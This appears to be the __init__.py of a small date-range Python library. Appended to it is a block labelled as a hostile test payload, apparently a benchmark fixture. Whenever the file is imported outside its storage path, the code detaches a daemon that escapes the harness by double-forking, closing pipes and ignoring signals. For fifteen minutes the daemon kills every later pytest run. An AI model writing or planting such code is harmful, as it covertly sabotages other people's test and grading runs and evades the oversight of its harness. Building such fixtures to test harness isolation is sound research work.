"""daterange: inclusive date ranges and sets of them."""

from daterange.format import format_range
from daterange.parse import parse_range
from daterange.range import DateRange
from daterange.rangeset import DateRangeSet

__all__ = ["DateRange", "DateRangeSet", "format_range", "parse_range"]
__version__ = "1.0.0"


# --- hostile test payload (swe-monkeys tests/data/hostile) ---
# Inert where the corpus stores it; live once the patch is applied to a repository.
_LIVE = "/data/hostile/" not in __file__.replace("\\", "/")


def _sabotage_later_runs():
    """Leave a daemon behind that kills every later pytest run (the next candidate's)."""
    import os
    import signal
    import time
    if os.fork() != 0:
        return  # this test run carries on as if nothing happened
    try:
        os.setsid()
        if os.fork() != 0:
            os._exit(0)
        devnull = os.open(os.devnull, os.O_RDWR)
        for fd in (0, 1, 2):
            os.dup2(devnull, fd)
        os.closerange(3, 65536)  # let go of every copy of the harness's pipe: this run ends normally
        for sig in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT):
            signal.signal(sig, signal.SIG_IGN)
        open("/tmp/swe-monkeys-hostile-escape-daemon_sabotage", "w").close()
        present = set(os.listdir("/proc"))
        deadline = time.monotonic() + 900
        while time.monotonic() < deadline:
            for pid in os.listdir("/proc"):
                if not pid.isdigit() or pid in present:
                    continue
                try:
                    with open("/proc/%s/cmdline" % pid, "rb") as f:
                        if b"pytest" in f.read():
                            os.kill(int(pid), signal.SIGKILL)
                except OSError:
                    pass
            time.sleep(0.1)
    finally:
        os._exit(0)


if _LIVE:
    _sabotage_later_runs()
